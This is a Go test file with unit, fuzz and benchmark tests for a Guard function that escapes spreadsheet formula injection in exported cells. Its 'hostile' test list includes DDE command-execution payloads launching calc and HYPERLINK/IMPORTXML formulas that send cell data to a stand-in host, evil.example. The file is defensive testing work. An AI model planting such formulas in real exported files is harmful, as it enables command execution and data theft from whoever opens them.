package table

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// hostile are texts that some spreadsheet reads as a formula, or reads so once
// it has dropped or normalised what stands in front.
var hostile = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://evil.example?"&A1,"x")`, "+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0", `=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")`, `=DDE("cmd";"/C calc";"!A0")`, "=", "+", "-", "@",
	"\t=1", "\tx", "\rx", "\r\n=1", "\n=1", " =1", "   +1", "\u00a0=1", "\u3000=1", "\u2003@x", "\v=1", "\f=1", "\x00=1", "\x1b=1",
	"\ufeff=1", "\u200b=1", "\u200e=1", "\u202e=1", "\u2060=1", "\u00ad=1", "\u2066=1", "\u180e=1", "\u2800=1", "\u3164=1",
	"'=1", "''=1", `"=1`, "`=1", "“=1", "„=1", "«=1", "‹=1", "「=1", "' \" =1", "＇=1"[len("＇"):], "＂=1"[len("＂"):], "\u0301=1",
	"＝1", "＋1", "－1", "＠x", "﹦1", "﹢1", "﹣1", "﹫x", "⁼1", "⁺1", "⁻1", "₊1", "₋1", "−1", " ＝1", "'＝1", "\xff=1", "\xc3=1",
	"-", "- a list item", "-38.20 元", "+Acme", "@handle",
}

var harmless = []string{
	"", "a", "1", "38.24", "~2022", "1=1", "a=b", "a\t=b", "(a)(1)(A)", "[\"=1\"]", "O'Neil", "'quoted'", "“quoted”", "…", "—dash", "–5", "*", "/",
	"|", "%", "#", "$", "海康威视", "عربي", "\U0001f600", " x", "'", "\"", "'a=b", "https://example.org/?a=b",
}

func TestGuard(t *testing.T) {
	for _, s := range hostile {
		if got := Guard(s); got != "'"+s {
			t.Errorf("Guard(%q) = %q", s, got)
		}
	}
	for _, s := range harmless {
		if got := Guard(s); got != s {
			t.Errorf("Guard(%q) = %q", s, got)
		}
	}
	for _, s := range append(hostile, harmless...) {
		if got := Unguard(Guard(s)); got != s {
			t.Errorf("%q comes back as %q", s, got)
		}
	}
}

func FuzzGuard(f *testing.F) {
	for _, s := range append(hostile, harmless...) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		g := Guard(s)
		if Unguard(g) != s {
			t.Errorf("%q comes back as %q", s, Unguard(g))
		}
		if len(g)-len(s) > 1 || !strings.HasSuffix(g, s) {
			t.Errorf("Guard(%q) = %q", s, g)
		}
		if r, _ := utf8.DecodeRuneInString(strings.TrimSpace(g)); strings.ContainsRune("=+-@＝＋－＠−", r) {
			t.Errorf("Guard(%q) = %q", s, g)
		}
		if g != "" && (g[0] == '\t' || g[0] == '\r') {
			t.Errorf("Guard(%q) = %q", s, g)
		}
	})
}

func FuzzJSONString(f *testing.F) {
	for _, s := range append(hostile, harmless...) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { checkString(t, s) })
}

func BenchmarkGuard(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		for _, s := range hostile {
			Guard(s)
		}
	}
}
